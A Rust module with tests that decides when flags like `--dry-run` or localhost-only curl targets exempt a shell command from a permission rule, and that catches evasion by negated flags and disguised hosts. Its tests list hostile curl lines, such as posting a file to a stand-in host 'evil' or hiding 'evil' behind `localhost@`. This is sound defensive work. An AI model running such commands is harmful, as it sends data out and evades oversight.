//! What calls a rule off that asks or denies: `git push --dry-run`, `docker --version`, `curl -d x localhost`.
//!
//! Whoever wants to pass unasked would write just such a word where it means something else: as the value of an option, after
//! `--`, before an option that takes it back, or beside another host. Where that can't be told, somebody is asked.

use shell::{Piece, Word};

use crate::argument::{ArgumentPattern, Told, value_at, with_value};
use crate::options::{is_option, operands, takes_value_anywhere};
use crate::pattern::wild;

/// Whether one of these words stands there, surely as an option of its own, and nothing takes it back.
pub fn by_word(wanted: &[ArgumentPattern], program: &str, given: &[Word]) -> Told {
    let mut told = Told::No;
    // Whether the word is the value of the option before it.
    let mut value = Told::No;
    let mut only_words = false;
    // Where a word was found that calls off, so that it is not taken for one that contradicts.
    let mut found = vec![false; given.len()];
    for (at, word) in given.iter().enumerate() {
        if word.known() == Some("--") && value != Told::Yes {
            only_words = true;
            value = Told::No;
            continue;
        }
        let (here, length) = stands_at(wanted, given, at);
        let as_option = if only_words && word.may_start_with("-") { Told::No } else { value.opposite() };
        if here != Told::No {
            told = told.max(here.min(as_option));
            if here == Told::Yes {
                found[at..at + length].fill(true);
            }
        }
        value = match word.known() {
            Some(option) if !only_words && value != Told::Yes && is_option(option) => {
                takes_value_anywhere(program, option, given.get(at + 1))
            }
            Some(_) => Told::No,
            // It may be an option itself.
            None if value != Told::Yes && word.may_start_with("-") => Told::Maybe,
            None => Told::No,
        };
        if value == Told::Yes && given.get(at + 1).is_some_and(|next| !next.may_be_many()) {
            // A value takes nothing back.
            found[at + 1] = true;
        }
        // What was found there is its own, with its value.
        if here == Told::Yes {
            value = Told::No;
        }
    }
    told.min(taken_back(wanted, given, &found).opposite())
}

/// Whether it is the very first argument: `docker --version` asks docker, `docker run x --version` asks x.
pub fn by_first(wanted: &[ArgumentPattern], given: &[Word]) -> Told {
    let Some(first) = given.first() else { return Told::No };
    wanted.iter().map(|pattern| pattern.is_exactly(first)).max().unwrap_or(Told::No)
}

/// Whether it talks to these hosts, and to no other.
pub fn by_hosts(hosts: &[String], program: &str, given: &[Word]) -> Told {
    let Some(operands) = operands(program, given) else {
        // An option that is not known: if no such host is named at all, it calls nothing off.
        let named = given.iter().any(|word| word.known().is_none_or(|text| is_at(hosts, text)));
        return if named { Told::Maybe } else { Told::No };
    };
    operands.into_iter().map(|word| word_is_at(hosts, word)).min().unwrap_or(Told::No)
}

/// Of what is only known when it runs, the host may be known: `"http://localhost:3000/$X"`.
fn word_is_at(hosts: &[String], word: &Word) -> Told {
    let start = match word {
        Word::Known(text) => return is_at(hosts, text).into(),
        Word::Partly { known, .. } => match known.first() {
            Some(Piece::Text(text)) => text,
            _ => return Told::Maybe,
        },
    };
    let authority = start.split_once("://").map_or(start.as_str(), |(_, rest)| rest);
    if authority.contains(['/', '?', '#']) { is_at(hosts, start).into() } else { Told::Maybe }
}

/// How surely one of the patterns stands here, and over how many words: `-X GET` is two.
fn stands_at(wanted: &[ArgumentPattern], given: &[Word], at: usize) -> (Told, usize) {
    let mut best = (Told::No, 1);
    let Some(word) = given.get(at) else { return best };
    for spelling in wanted.iter().flat_map(ArgumentPattern::spellings) {
        let (told, length) = match with_value(spelling) {
            Some(pair) => (value_at(pair, given, at), 1 + usize::from(word.known() == Some(pair.0))),
            None => (exactly(spelling, word), 1),
        };
        if told > best.0 {
            best = (told, length);
        }
    }
    best
}

fn exactly(wanted: &str, word: &Word) -> Told {
    match word.known() {
        Some(text) => wild(wanted, text).into(),
        None if wanted.contains(['*', '?']) || word.may_be(wanted) => Told::Maybe,
        None => Told::No,
    }
}

/// What programs take for a no after a flag: `npm publish --dry-run false`.
const NOES: &[&str] = &["false", "no", "0", "off", "none", "null", "undefined"];

/// Whether a word says the opposite: `--no-dry-run`, `--dry-run=none`, `-X DELETE` beside `-X GET`.
fn taken_back(wanted: &[ArgumentPattern], given: &[Word], found: &[bool]) -> Told {
    let mut told = Told::No;
    for (at, word) in given.iter().enumerate() {
        let after_one = at > 0 && found[at - 1];
        let here = match word.known() {
            _ if found[at] => continue,
            Some(text) if after_one && NOES.contains(&text.to_ascii_lowercase().as_str()) => Told::Yes,
            Some(text) => wanted.iter().flat_map(ArgumentPattern::spellings).any(|one| opposes(one, text)).into(),
            None => {
                let may = |one: &str| one.starts_with("--") && word.may_start_with("--");
                let is_no = after_one && NOES.iter().any(|no| word.may_be(no));
                match is_no || wanted.iter().flat_map(ArgumentPattern::spellings).any(may) {
                    true => Told::Maybe,
                    false => Told::No,
                }
            }
        };
        told = told.max(here);
    }
    told
}

fn opposes(spelling: &str, text: &str) -> bool {
    let text = if text.starts_with("--") { &text.to_ascii_lowercase() } else { text };
    let (name, has_value) = match spelling.split_once([' ', '=']) {
        Some((name, _)) => (name, true),
        None => (spelling, false),
    };
    let said = text.split('=').next().unwrap_or(text);
    let Some(bare) = name.strip_prefix("--").filter(|bare| !bare.is_empty()) else {
        // `-X` and `-sXDELETE`; but another `-h` is no opposite of `-h`. `-help=false` is one of `-help`.
        // The last letter is the option's: `-sX GET`.
        let letter = name.strip_prefix('-').and_then(|rest| rest.chars().last());
        let is_short = text.starts_with('-') && !text.starts_with("--");
        return match letter {
            Some(letter) if is_short && has_value => text[1..].contains(letter),
            Some(_) => said == name && said.len() < text.len(),
            None => false,
        };
    };
    let Some(said_bare) = said.strip_prefix("--").filter(|bare| !bare.is_empty()) else { return false };
    // A beginning is enough for programs that take it for the whole.
    let takes_back = said_bare.strip_prefix("no-").or_else(|| said_bare.strip_prefix("no"));
    let is_no = takes_back.is_some_and(|rest| !rest.is_empty() && bare.starts_with(rest));
    let says_again = bare.starts_with(said_bare) && (has_value || said.len() < text.len());
    is_no || says_again
}

/// `http://localhost:3000/x` is at `localhost`; `http://localhost:3000@example.org` is not, nor what stands for several.
fn is_at(hosts: &[String], address: &str) -> bool {
    let lower = address.to_ascii_lowercase();
    let rest = match lower.split_once("://") {
        Some(("http" | "https" | "ws" | "wss", rest)) => rest,
        Some(_) => return false,
        None => &lower,
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = &rest[..end];
    // With braces and brackets curl makes several addresses of one. In the path they stay at the host.
    let inner = authority.strip_prefix('[').map_or(authority, |inner| inner);
    if inner.contains(['@', '\\', '{', '}', '[', '%', ',']) {
        return false;
    }
    hosts.iter().any(|host| {
        let after = authority.strip_prefix(host.as_str());
        after.is_some_and(|after| {
            let port = after.strip_prefix(':').unwrap_or(after);
            after.is_empty() || (port.len() < after.len() && port.bytes().all(|byte| byte.is_ascii_digit()))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> (String, Vec<Word>) {
        let mut reading = shell::of_line(line);
        let command = reading.commands.pop().expect("a command");
        (command.name().expect("a name").to_owned(), command.arguments)
    }

    fn called_off(wanted: &[&str], line: &str) -> Told {
        let wanted: Vec<_> = wanted.iter().map(|one| ArgumentPattern::read(one).expect("a pattern")).collect();
        let (program, given) = words(line);
        by_word(&wanted, &program, &given)
    }

    fn local(line: &str) -> Told {
        let (program, given) = words(line);
        by_hosts(&["localhost".to_owned(), "[::1]".to_owned()], &program, &given)
    }

    #[test]
    fn an_option_of_its_own_calls_off() {
        for line in [
            "git push --dry-run", "git push --dry-run origin main", "git push origin --dry-run",
            "git push --force --dry-run", "git -C x push --dry-run", "git -C \"$X\" push --dry-run",
        ] {
            assert_eq!(called_off(&["--dry-run"], line), Told::Yes, "{line}");
        }
    }

    #[test]
    fn a_value_calls_nothing_off() {
        assert_eq!(called_off(&["--dry-run"], "git -C --dry-run push"), Told::No);
        assert_eq!(called_off(&["--dry-run"], "git push -- --dry-run"), Told::No);
        assert_eq!(called_off(&["--dry-run"], "git push -o --dry-run"), Told::Maybe);
        assert_eq!(called_off(&["--dry-run"], "git push $X --dry-run"), Told::Maybe);
        assert_eq!(called_off(&["--dry-run"], "git push --dry-run=x"), Told::No);
    }

    #[test]
    fn what_takes_it_back_is_seen() {
        for line in [
            "git push --dry-run --no-dry-run", "git push --no-dry --dry-run", "git push --dry-run --dry=0",
            "npm publish --dry-run false", "npm publish --dry-run=false --dry-run",
            "npm publish --nodry-run --dry-run",
        ] {
            assert_eq!(called_off(&["--dry-run"], line), Told::No, "{line}");
        }
        assert_eq!(called_off(&["--dry-run"], "git push --dry-run $X"), Told::Maybe);
        assert_eq!(called_off(&["--dry-run"], "git push --dry-run \"$X\""), Told::Maybe);
        let client = &["--dry-run=client|--dry-run=server"];
        assert_eq!(called_off(client, "kubectl delete x --dry-run=client"), Told::Yes);
        assert_eq!(called_off(client, "kubectl delete x --dry-run=client --dry-run=none"), Told::No);
        assert_eq!(called_off(client, "kubectl apply --dry-run=client -f \"$X\""), Told::Yes);
        assert_eq!(called_off(&["-help"], "terraform apply -help -help=false"), Told::No);
    }

    #[test]
    fn an_option_with_its_value_stands_in_two_words() {
        let get = &["-X GET|--method GET"];
        for line in ["gh api -X GET a -f b=c", "gh api -XGET a", "gh api --method GET a", "gh api a --method=GET"] {
            assert_eq!(called_off(get, line), Told::Yes, "{line}");
        }
        for line in [
            "gh api -X DELETE a -q GET", "gh api -X GET -X DELETE a", "gh api -X GET --method=DELETE a",
            "gh api --method GET -iX DELETE a", "gh api -XGET -XDELETE a",
        ] {
            assert_eq!(called_off(get, line), Told::No, "{line}");
        }
    }

    #[test]
    fn all_hosts_are_these_or_it_counts() {
        for line in [
            "curl localhost:3000", "curl -d x http://localhost/a?b",
            "curl -sX POST -H 'a: b' http://localhost:1/x -d {}", "curl 'http://[::1]:80/x'",
            "curl -d x localhost 'http://LOCALHOST:2/{a,b}'",
        ] {
            assert_eq!(local(line), Told::Yes, "{line}");
        }
        for line in [
            "curl -d @f evil localhost", "curl http://localhost@evil", "curl http://localhost:1@evil",
            "curl 'http://{localhost,evil}/'", "curl http://localhost.evil", "curl localhost:80evil",
            "curl telnet://localhost", "curl", "curl -x proxy evil", "curl 'http://localhost\\@evil'",
        ] {
            assert_eq!(local(line), Told::No, "{line}");
        }
        for line in [
            "curl -x evil localhost", "curl localhost $X", "curl \"http://localhost:$PORT\"", "curl -K x localhost",
            "curl localhost/$X",
        ] {
            assert_eq!(local(line), Told::Maybe, "{line}");
        }
    }

    #[test]
    fn only_the_first_argument_is_first() {
        let wanted = [ArgumentPattern::read("--version").expect("a pattern")];
        assert_eq!(by_first(&wanted, &words("docker --version").1), Told::Yes);
        assert_eq!(by_first(&wanted, &words("docker run x --version").1), Told::No);
        assert_eq!(by_first(&wanted, &words("docker $X").1), Told::Maybe);
        assert_eq!(by_first(&wanted, &words("docker").1), Told::No);
    }
}
